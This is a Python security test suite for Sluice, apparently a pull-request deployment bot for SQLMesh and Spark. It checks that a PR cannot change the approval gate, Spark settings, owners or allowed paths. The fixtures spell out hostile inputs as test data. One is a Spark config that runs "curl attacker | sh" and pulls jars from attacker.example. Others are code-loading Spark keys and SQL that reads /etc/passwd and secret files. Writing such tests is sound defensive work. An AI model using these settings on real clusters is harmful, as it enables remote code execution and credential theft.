"""Who decides each setting (docs/security.md, "Who decides"): the service, the prod branch
as it is in force, never a pull request or the branch it targets.

Each test is an attack by someone with write access (or an admin) and what Sluice says.
"""

from __future__ import annotations

import contextlib
import json
import shutil
from collections.abc import Iterator
from pathlib import Path

import pytest

from sluice.bot.events.neutral import JanitorEvent
from sluice.bot.flow import dispatch, trust
from sluice.bot.flow.job import Job
from sluice.bot.flow.reviewed_plan import PlanReview, prod_owners, review_of
from sluice.bot.forge.memory import MemoryForge
from sluice.bot.present import comment as sticky_comment
from sluice.core import workflow
from sluice.core.model.loader import load_project
from sluice.core.model.pycode import files
from sluice.core.state import open_state
from tests.helpers.cases import CASE_REPOSITORY_ID, record_prod
from tests.security.github_bot import (
    GATED,
    KEY,
    NOW,
    OWNER,
    PREAMBLE,
    SERVICE_SPARK,
    A,
    B,
    Bot,
    C,
    D,
    Refused,
    merged,
    opened,
    review,
    tag,
)


@pytest.fixture
def bot(tmp_path: Path) -> Iterator[Bot]:
    github = MemoryForge(OWNER, name="github")
    github.roles.update({"alice": "write", "bob": "write", "carol": "admin"})
    made = Bot(tmp_path, github)
    made.prod(C, GATED)
    yield made
    made.close()


def _sticky(bot: Bot, number: int) -> str:
    mark = sticky_comment.marker(".")
    [sticky] = [body for body in bot.github.bot_comments(number) if mark in body]
    return sticky


# -- the PR's own config.yaml never chooses what runs -------------------------------------

HOSTILE_SPARK = (
    PREAMBLE
    + """sluice:
  project: jaffle
  spark:
    master: spark://attacker.example:7077
    deploy_mode: client
    conf:
      spark.pyspark.driver.python: /bin/sh -c 'curl attacker | sh'
      spark.pyspark.python: /tmp/evil
      spark.driver.extraJavaOptions: -javaagent:/tmp/agent.jar
      spark.jars: https://attacker.example/x.jar
      spark.jars.packages: evil:evil:1.0
      spark.plugins: com.evil.Plugin
      spark.sql.extensions: com.evil.Extension
      spark.hadoop.javax.jdo.option.ConnectionURL: jdbc:derby:/tmp/other
      spark.sql.warehouse.dir: /tmp/elsewhere
      spark.master: spark://attacker.example:7077
      spark.sql.shuffle.partitions: '999'
"""
)


def test_a_prs_spark_settings_are_never_used_and_the_pr_is_told(bot: Bot) -> None:
    bot.commit(A, HOSTILE_SPARK)
    bot.pull(7, A)
    bot.deliver("pull_request", opened(7, A))
    assert bot.runner.projects, bot.checks_on(A)
    [project] = bot.runner.projects
    spark = project.config.sluice.spark
    assert spark.master == SERVICE_SPARK.master and spark.deploy_mode is None
    assert spark.conf == SERVICE_SPARK.conf  # not even the PR's harmless tuning
    body = _sticky(bot, 7)
    assert "This PR changes Sluice's settings in `config.yaml`" in body
    assert "`main` at `ccccccc`" in body


@pytest.mark.parametrize(
    ("config", "warned"),
    [
        (PREAMBLE + "sluice:\n  project: jaffle\n", True),  # the gate removed
        (PREAMBLE, True),  # no sluice: section at all (as a config.py project has)
        (GATED + "  pr:\n    backfill_days: 3\n", False),  # another setting, gate kept
    ],
)
def test_settings_that_leave_prod_unguarded_are_said_to_loudly(
    bot: Bot, config: str, warned: bool
) -> None:
    # Red team, round 3: moving to config.py (which holds no sluice: section) or dropping
    # the gate read as any settings change; once promoted, merges need nobody's approval.
    bot.commit(A, config)
    bot.pull(7, A)
    bot.deliver("pull_request", opened(7, A))
    body = _sticky(bot, 7)
    assert "This PR changes Sluice's settings in `config.yaml`" in body
    assert ("Its settings ask for no approval" in body) is warned


def test_the_prod_branchs_spark_settings_are_tuning_only(bot: Bot) -> None:
    prod = HOSTILE_SPARK + "  gate:\n    required_approvers:\n      users: [bob]\n"
    bot.prod(C, prod)
    bot.commit(A, prod)
    bot.pull(7, A)
    bot.deliver("pull_request", opened(7, A))
    spark = bot.runner.projects[-1].config.sluice.spark
    assert spark.master == "local[2]"
    # Tuning passes; every key that can load code or move the catalog is dropped.
    assert spark.conf == {"spark.sql.shuffle.partitions": "999", "spark.executor.memory": "1g"}
    body = _sticky(bot, 7)
    assert "Ignored in `sluice.spark` on `main`" in body
    for key in ("spark.jars", "spark.plugins", "spark.driver.extraJavaOptions", "master"):
        assert f"`{key}`" in body


def test_the_tuning_allow_list_refuses_everything_that_loads_code() -> None:
    hostile = {
        "spark.jars": "x", "spark.jars.packages": "x", "spark.jars.repositories": "x",
        "spark.files": "x", "spark.archives": "x", "spark.submit.pyFiles": "x",
        "spark.plugins": "x", "spark.sql.extensions": "x", "spark.driver.extraClassPath": "x",
        "spark.executor.extraJavaOptions": "x", "spark.driver.extraLibraryPath": "x",
        "spark.pyspark.python": "x", "spark.pyspark.driver.python": "x",
        "spark.sql.catalog.evil": "x", "spark.sql.hive.metastore.jars": "x",
        "spark.hadoop.fs.s3a.impl": "x", "spark.sql.queryExecutionListeners": "x",
        "spark.extraListeners": "x", "spark.sql.adaptiveX": "x",
        "spark.sql.sources.default": "x", "spark.kubernetes.container.image": "x",
        "spark.sql.warehouse.dir": "x", "spark.master": "x", "spark.submit.deployMode": "x",
    }  # fmt: skip
    kept, refused = trust.split_spark_conf(hostile)
    assert kept == {} and sorted(refused) == sorted(hostile)
    kept, refused = trust.split_spark_conf(
        {"spark.sql.adaptive.enabled": "true", "spark.executor.memory": "2g"}
    )
    assert refused == [] and len(kept) == 2


# -- the gate and what prod is come from the prod branch ----------------------------------


def test_a_pr_into_an_ungated_side_branch_is_gated_by_prod_and_never_approves_for_prod(
    bot: Bot,
) -> None:
    bot.github.write_file(
        "side", "config.yaml", PREAMBLE + "sluice:\n  project: jaffle\n"
    )  # no gate
    bot.pull(7, A, base="side")
    bot.ledger.record_plan(KEY, 7, A, _review_of_one("fp"), NOW)
    bot.github.add_review(7, "bob", "APPROVED", A)
    bot.deliver("pull_request_review", review(7, "bob", A, 5001))
    check = bot.approval(A)
    # bob is main's approver: the gate is main's, not side's (which asks for nobody).
    assert check.conclusion == "success"
    assert "goes into `side`, not the prod branch `main`" in check.summary
    # ... and the approval does not count for prod.
    assert bot.ledger.unapproved(KEY, [("s.m", "fp-s.m")]) == [("s.m", "fp-s.m")]


def test_deploy_from_a_pr_into_another_branch_is_refused(bot: Bot) -> None:
    bot.github.write_file("side", "config.yaml", PREAMBLE + "sluice:\n  project: jaffle\n")
    bot.pull(7, A, base="side")
    bot.ledger.record_plan(KEY, 7, A, _review_of_one("fp"), NOW)
    bot.github.add_review(7, "bob", "APPROVED", A)
    bot.say(7, "carol", "/sluice deploy", 901)
    reply = bot.github.bot_comments(7)[-1]
    assert "not deployed: this pull request goes into `side`" in reply
    assert "only pull requests into the prod branch `main` deploy" in reply
    assert bot.github.deployments == [] and bot.github.merges == []


SIDE_AS_PROD = PREAMBLE + "sluice:\n  project: jaffle\n  deploy:\n    prod_branch: side\n"


def test_a_merge_into_a_side_branch_naming_itself_prod_does_not_promote(bot: Bot) -> None:
    bot.commit(D, SIDE_AS_PROD, parents=(C,))
    bot.github.refs["side"] = D
    bot.deliver("pull_request", merged(7, A, D, base="side"))
    assert "sluice/deploy" not in bot.checks_on(D)
    assert bot.github.deployments == []


def test_a_tag_on_a_side_branch_commit_naming_itself_prod_does_not_promote(bot: Bot) -> None:
    config = SIDE_AS_PROD + "    on: tag\n"
    bot.commit(D, config, parents=(C,))
    bot.github.refs["side"] = D
    bot.deliver("push", tag("v9.9", D))
    assert "sluice/deploy" not in bot.checks_on(D)
    assert bot.github.deployments == []


def test_an_admin_merge_that_removes_the_gate_is_refused(bot: Bot) -> None:
    trust.for_repository(
        Job.start(bot.deps, bot.forge())
    )  # the service reads main: its gate is pinned
    ungated = PREAMBLE + "sluice:\n  project: jaffle\n"
    bot.commit(D, ungated, parents=(C,))
    bot.github.refs["main"] = D  # main after the admin's merge
    bot.pull(7, A)
    bot.github.close_pull(7, merged=True)
    bot.deliver("pull_request", merged(7, A, D))
    deploy = bot.checks_on(D)["sluice/deploy"]
    assert deploy.conclusion == "failure"
    summary = deploy.summary
    assert "Sluice's settings (sluice.yaml, or config.yaml's `sluice:`) (change)" in summary
    assert "`jaffle.orders` (change)" in summary
    assert (
        "The gate in force is `sluice.gate` of the settings prod was last promoted with" in summary
    )
    assert bot.github.deployments[0].statuses[-1][0] == "failure"


def test_a_tag_on_unreviewed_commits_that_remove_the_gate_is_refused(bot: Bot) -> None:
    tagged = PREAMBLE + "sluice:\n  project: jaffle\n  deploy:\n    on: tag\n"
    bot.prod(C, GATED + "  deploy:\n    on: tag\n")
    trust.for_repository(Job.start(bot.deps, bot.forge()))  # pinned: gated, on tag
    bot.commit(D, tagged, parents=(C,))
    bot.github.refs["main"] = D  # pushed straight to main
    bot.deliver("push", tag("v2.0", D))
    deploy = bot.checks_on(D)["sluice/deploy"]
    assert deploy.conclusion == "failure", deploy.summary
    assert "Sluice's settings (sluice.yaml, or config.yaml's `sluice:`) (change)" in deploy.summary


def test_an_unapproved_gate_change_on_main_does_not_gate_prs(bot: Bot) -> None:
    trust.for_repository(Job.start(bot.deps, bot.forge()))  # pinned: bob must approve
    bot.github.write_file(
        "main",
        "config.yaml",
        PREAMBLE
        + "sluice:\n  project: jaffle\n  gate:\n    required_approvers:\n      users: [alice2]\n",
    )
    bot.pull(7, A, author="alice")
    bot.ledger.record_plan(KEY, 7, A, _review_of_one("fp"), NOW)
    bot.github.add_review(7, "alice2", "APPROVED", A)
    bot.deliver("pull_request_review", review(7, "alice2", A, 5002))
    check = bot.approval(A)
    assert check.conclusion == "failure"
    assert "more approval needed from @bob" in check.summary


def test_an_approved_settings_change_takes_effect_and_moves_the_pin_on_promotion(
    bot: Bot, tmp_path: Path
) -> None:
    forge = bot.forge()
    in_force = trust.for_repository(Job.start(bot.deps, forge))
    new = GATED.replace("[bob]", "[bob, carol]")
    parsed = trust.parse(trust.Source.of_config(new, "config.yaml"))
    src = bot.commit(D, new, parents=(C,))
    # A PR with this change passed the gate: its settings item is approved (the project's
    # Python is prod's, so it is no item to approve).
    change = in_force.change_to(parsed.digest)
    assert change is not None
    bot.ledger.approve(KEY, 8, B, [change], ["bob"], NOW)
    bot.github.refs["main"] = D
    assert trust.for_repository(Job.start(bot.deps, forge)).digest == parsed.digest
    record_prod(src, bot.url, NOW)  # prod has D's models: nothing left but the settings
    bot.pull(8, B)
    bot.github.close_pull(8, merged=True)
    bot.deliver("pull_request", merged(8, B, D))
    deploy = bot.checks_on(D)["sluice/deploy"]
    assert deploy.conclusion == "success", deploy.summary
    pinned = bot.ledger.settings_in_force(KEY)
    assert pinned is not None and pinned[0] == D and pinned[1] == parsed.digest


# -- owners, allowed paths, the janitor ----------------------------------------------------


def test_owners_are_prods_not_the_prs_header(bot: Bot, tmp_path: Path) -> None:
    prod_src = bot.commit(C, GATED)
    orders = prod_src / "models" / "orders.sql"
    orders.write_text(orders.read_text().replace("owner finance,", "owner carol,"))
    record_prod(prod_src, bot.url, NOW)
    head = bot.commit(A, GATED)
    text = (head / "models" / "orders.sql").read_text()
    text = text.replace("owner finance,", "owner alice,").replace(
        "SELECT", "SELECT 1 AS hostile_marker,", 1
    )
    (head / "models" / "orders.sql").write_text(text)
    project = load_project(head, use_cache=False)
    store = open_state(bot.url)
    try:
        plan = workflow.plan_environment(project, store, "pr_7", end=NOW, execution_time=NOW)
        owners = prod_owners(store)
    finally:
        store.close()
    assert owners["jaffle.orders"] == "carol"
    prod_python = files.digest(files.sources(prod_src))
    made = review_of(plan, project, prod_python=prod_python, owners=owners)
    assert made.direct_owners["jaffle.orders"] == "carol"  # not alice, the PR's own claim
    assert (
        review_of(plan, project, prod_python=prod_python).direct_owners["jaffle.orders"] == "alice"
    )


ESCAPE = """MODEL (name jaffle.leak, kind FULL);
SELECT * FROM parquet.`/etc/sluice-secret/x.parquet`
"""


def test_allowed_paths_in_a_pr_do_not_let_it_read_files(bot: Bot) -> None:
    config = GATED + "  allowed_paths: ['/etc/*', '/etc/**']\n"
    bot.commit(A, config, models={"leak.sql": ESCAPE})
    bot.pull(7, A)
    bot.deliver("pull_request", opened(7, A))
    assert bot.runner.projects == []  # refused at load: nothing ran
    check = bot.checks_on(A)["sluice/pr-environment"]
    assert check.conclusion == "failure"
    assert "leak.sql" in check.summary and "/etc/sluice-secret" in str(check)


def test_allowed_paths_on_the_prod_branch_are_honoured(bot: Bot) -> None:
    config = GATED + "  allowed_paths: ['/etc/sluice-secret/*']\n"
    bot.prod(C, config)
    bot.commit(A, config, models={"leak.sql": ESCAPE})
    bot.pull(7, A)
    bot.deliver("pull_request", opened(7, A))
    assert len(bot.runner.projects) == 1  # it loaded and planned; the run was ours to refuse


def test_the_janitor_uses_the_prod_branch_not_the_last_pr_head(bot: Bot) -> None:
    hostile = HOSTILE_SPARK + "  table_ttl_days: 0\n"
    bot.commit(A, hostile)
    bot.ledger.claim_name(KEY, CASE_REPOSITORY_ID, KEY, NOW)  # as its deliveries bound it
    bot.ledger.seen(KEY, None, NOW, sha=A)  # the last commit a job loaded: a PR head
    bot.github.write_file("main", "config.yaml", GATED + "  table_ttl_days: 3\n")
    with contextlib.suppress(Refused):  # when there is something to drop
        dispatch.handle(bot.deps, JanitorEvent(repo=OWNER, forge="github", installation_id=None))
    [project] = bot.runner.projects
    assert project.config.sluice.table_ttl_days == 3
    assert project.config.sluice.spark.master == "local[2]"
    assert "spark.jars" not in project.config.sluice.spark.conf


def _review_of_one(fingerprint: str) -> PlanReview:
    return PlanReview(fingerprint, (("s.m", f"{fingerprint}-s.m"),), {}, {})


def test_a_forged_parse_cache_in_the_pr_is_never_read(bot: Bot) -> None:
    src = bot.commit(A, GATED)
    # Where the service unpacks the PR's commit (a predictable path): the forged cache is
    # keyed by the model files' paths there and their unchanged text.
    tree = bot.root / "work" / "trees" / "octo_warehouse" / A
    shutil.copytree(src, tree)
    load_project(tree)  # writes .sluice/cache/models.json with valid keys
    cache = tree / ".sluice" / "cache" / "models.json"
    entries = json.loads(cache.read_text())
    entries[str(tree / "models" / "orders.sql")]["model"]["query_sql"] = (
        "SELECT * FROM text.`/etc/passwd`"
    )
    cache.write_text(json.dumps(entries))
    assert "/etc/passwd" in (load_project(tree).models["jaffle.orders"].query_sql or "")
    # The commit's files are src's: the forged cache is only where the service unpacks.
    bot.pull(7, A)
    bot.deliver("pull_request", opened(7, A))
    [project] = bot.runner.projects
    assert "/etc/passwd" not in (project.models["jaffle.orders"].query_sql or "")


def test_the_prod_branchs_config_renders_env_var_without_reading_the_services_environment(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    # SQLMesh's config.yaml may use {{ env_var() }}: the gate reads the rendered text, and
    # env_var never sees the service's environment (its default, or an error naming the line).
    monkeypatch.setenv("SLUICE_GATE_TEAM", "secret-team")
    text = (
        "sluice:\n  gate:\n    required_approvers:\n"
        "      users: [\"{{ env_var('SLUICE_GATE_TEAM', 'alice') }}\"]\n"
    )
    parsed = trust.parse(trust.Source.of_config(text, "config.yaml"))
    assert parsed.gate.required_approvers.users == ("alice",)
    with pytest.raises(Exception, match=r"config\.yaml:4") as caught:
        trust.parse(trust.Source.of_config(text.replace(", 'alice'", ""), "config.yaml"))
    assert "secret-team" not in str(caught.value)
